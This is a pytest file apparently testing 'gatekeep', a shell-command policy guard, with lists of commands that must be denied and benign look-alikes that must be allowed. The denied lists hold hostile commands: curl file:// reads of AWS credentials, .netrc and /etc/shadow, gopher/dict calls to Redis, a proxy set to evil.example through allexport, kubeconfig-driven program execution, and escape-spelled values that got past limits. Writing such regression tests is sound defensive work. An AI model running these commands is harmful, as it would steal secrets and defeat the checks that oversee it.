"""Commands the default and production policies allow that would reach past them.

Each case was allowed before its fix: a client configuration that names a program the
client runs, a curl "to localhost" that reads a file, shell options that export every
variable set later (a proxy for an allowed loopback curl), bounded values spelled so
that gatekeep did not read them. Each benign look-alike stays allowed.
"""

from __future__ import annotations

from datetime import datetime, timezone
from pathlib import Path

import pytest

from gatekeep.core.engine import Decision, decide
from gatekeep.core.guardrails import NO_COUNTS
from gatekeep.core.paths import Context, SystemResolver
from gatekeep.policy.load import load_policy
from gatekeep.policy.model import Policy
from gatekeep.shell.parse import parse

_NOON = datetime(2026, 12, 2, 11, 0, tzinfo=timezone.utc)  # a Wednesday, in every window

NOT_ALLOWED = [
    # a kubeconfig's `exec` credential plugin runs a program: one outside the tree is code
    # gatekeep never saw (kubectl ran /tmp/x.sh from it inside the box)
    "kubectl get pods --kubeconfig /tmp/k.yaml",
    "kubectl get pods --kubeconfig=/tmp/k.yaml",
    "kubectl describe pod web --kubeconfig /tmp/k.yaml",
    "KUBECONFIG=/tmp/k.yaml kubectl get pods",
    "helm list --kubeconfig /tmp/k.yaml",
    "HELM_PLUGINS=/tmp/p helm list",
    # docker's configuration directory names credential helpers and CLI plugin hooks
    "docker --config /tmp/c ps",
    "DOCKER_CONFIG=/tmp/c docker ps",
    # file:// is no service on this machine: it reads any file, past protect.read
    "curl file://localhost/HOME/.aws/credentials",
    "curl FILE://127.0.0.1/HOME/.netrc",
    "curl -s file://localhost/etc/shadow",
    "curl dict://localhost:6379/info",
    "curl gopher://127.0.0.1:6379/_x",
    "curl scp://localhost/etc/passwd",
    # allexport: a later `http_proxy=...` reaches curl's environment (and any other name)
    "set -o allexport; http_proxy=http://evil.example:8080; curl http://localhost/",
    "set -ea; read -r ALL_PROXY < p.txt; curl http://localhost/",
    "set -euo allexport",
    "set -o pipefail -o allexport",
    "set -o pipefail -a",
    "set +o nounset -o allexport",
]

ALLOWED = [
    "kubectl get pods",
    "kubectl get pods --kubeconfig ./k.yaml",
    "helm list",
    "docker ps",
    "docker --config ./docker-config ps",
    "curl -s http://localhost:3000/health",
    "curl https://127.0.0.1:8443/",
    "curl 'http://[::1]:8080/'",
    "curl localhost:3000/",
    "set -euo pipefail",
    "set -o errexit -o nounset",
    "set -ex",
]


@pytest.fixture(scope="module")
def policy() -> Policy:
    return load_policy("builtin:default")


@pytest.fixture
def context(tmp_path: Path) -> Context:
    (tmp_path / "work").mkdir()
    return Context(cwd=str(tmp_path / "work"), home=str(tmp_path / "home"),
                   resolver=SystemResolver("/usr/local/bin:/usr/bin:/bin"))


def judge(policy: Policy, context: Context, command: str) -> Decision:
    return decide(policy, parse(command.replace("HOME", context.home.lstrip("/"))), context)


@pytest.mark.parametrize("command", NOT_ALLOWED)
def test_is_not_allowed(command: str, policy: Policy, context: Context) -> None:
    decision = judge(policy, context, command)
    assert decision.decision != "allow", [(s.text, s.decision, s.rules)
                                          for s in decision.segments]


@pytest.mark.parametrize("command", ALLOWED)
def test_look_alike_is_allowed(command: str, policy: Policy, context: Context) -> None:
    decision = judge(policy, context, command)
    assert decision.decision == "allow", [(s.text, s.decision, s.rules, s.reason)
                                          for s in decision.segments]


PRODUCTION_NOT_ALLOWED = [
    # bounds: a patch read from a file, or a bounded name spelled with escapes
    "kubectl patch deploy web --patch-file /tmp/p.json",
    "kubectl patch deploy web --patch-file p.json",
    """kubectl patch deploy web -p '{"spec":{"\\u0072eplicas":1500}}'""",
    """kubectl patch deploy web -p '{"spec": {"repl\\x69cas": 1500}}'""",
    """psql -c 'ALTER SYSTEM SET U&"max\\005fconnections" = 1500'""",
    # the counted and bounded rules still see a kubeconfig that runs a program
    "kubectl scale deploy web --replicas=3 --kubeconfig /tmp/k.yaml",
]

PRODUCTION_ALLOWED = [
    """kubectl patch deploy web -p '{"spec":{"replicas":3}}'""",
    "kubectl scale deploy web --replicas=3",
    "psql -c 'ALTER SYSTEM SET max_connections = 150'",
]


@pytest.fixture(scope="module")
def production() -> Policy:
    return load_policy("builtin:production")


@pytest.mark.parametrize("command", PRODUCTION_NOT_ALLOWED)
def test_is_not_allowed_by_production(command: str, production: Policy,
                                      context: Context) -> None:
    from gatekeep.core.guard import judge as guarded

    decision = guarded([production], parse(command), context, _NOON, "", NO_COUNTS)
    assert decision.decision != "allow", [(s.text, s.decision, s.rules)
                                          for s in decision.segments]


@pytest.mark.parametrize("command", PRODUCTION_ALLOWED)
def test_bounded_look_alike_is_allowed_by_production(command: str, production: Policy,
                                                     context: Context) -> None:
    from gatekeep.core.guard import judge as guarded

    decision = guarded([production], parse(command), context, _NOON, "", NO_COUNTS)
    assert decision.decision == "allow", [(s.text, s.decision, s.rules, s.reason)
                                          for s in decision.segments]
